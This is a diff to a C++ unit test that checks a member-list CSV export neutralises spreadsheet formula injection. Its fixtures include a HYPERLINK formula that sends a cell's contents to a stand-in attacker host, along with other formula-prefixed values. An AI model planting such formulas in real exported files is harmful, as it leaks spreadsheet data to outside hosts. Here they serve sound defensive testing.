@@ -5,6 +5,7 @@
 
 #include "tests/support/CoreTest.h"
 
+#include "core/base/Csv.h"
 #include "core/books/ActivityLog.h"
 #include "core/books/CompanyService.h"
 #include "core/credit/CreditService.h"
@@ -718,6 +719,13 @@ void TestMemberService::exportImportRoundTrip()
         {s("ingrid.odegard"), s("Ødegård, Ingrid \"Inga\""), QString(), QString()},
         {s("Mixed.Case-1"), s("=SUM(A1)"), QString(), s(";semi;colon;")},
         {s("zoe.noel"), s("Zoë Noël"), s("zoe@example.fr"), s("Ventes")},
+        // Cells a spreadsheet would run as formulas: neutralised on export, read back as is.
+        {s("formula.link"), s("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"), QString(),
+         s("@sum")},
+        {s("formula.plus"), s("+47"), QString(), s("-x")},
+        {s("formula.minus"), s("-x"), QString(), s("-12.50")},
+        {s("formula.quoted"), s("'=1+1"), QString(), s("'plain")},
+        {s("formula.tab"), s("\t=cmd"), QString(), s("'@x")},
     };
     for (const NewMember& m : tricky)
         SB_VERIFY_OK(members.add(m));
@@ -728,6 +736,18 @@ void TestMemberService::exportImportRoundTrip()
     QCOMPARE(*written, qint64(tricky.size()));
     const QByteArray firstBytes = readFile(first);
     QVERIFY(firstBytes.startsWith("account,name,email,department\r\n"));
+    // No cell a spreadsheet opens starts with a formula character.
+    const QStringList lines = QString::fromUtf8(firstBytes).split(s("\r\n"));
+    for (const QString& line : lines) {
+        for (const QString& cell : line.split(QLatin1Char(','))) {
+            const QString unquoted = cell.startsWith(QLatin1Char('"')) ? cell.mid(1) : cell;
+            QVERIFY2(unquoted.isEmpty() || !s("=+@\t").contains(unquoted.front()),
+                     qPrintable(line));
+            QVERIFY2(!unquoted.startsWith(s("-x")), qPrintable(line));
+        }
+    }
+    QVERIFY(firstBytes.contains("\"'=HYPERLINK("));
+    QVERIFY(firstBytes.contains(",'+47,"));
 
     SB_ENV(fresh, engine);
     const MemberService freshMembers(*fresh.ctx);
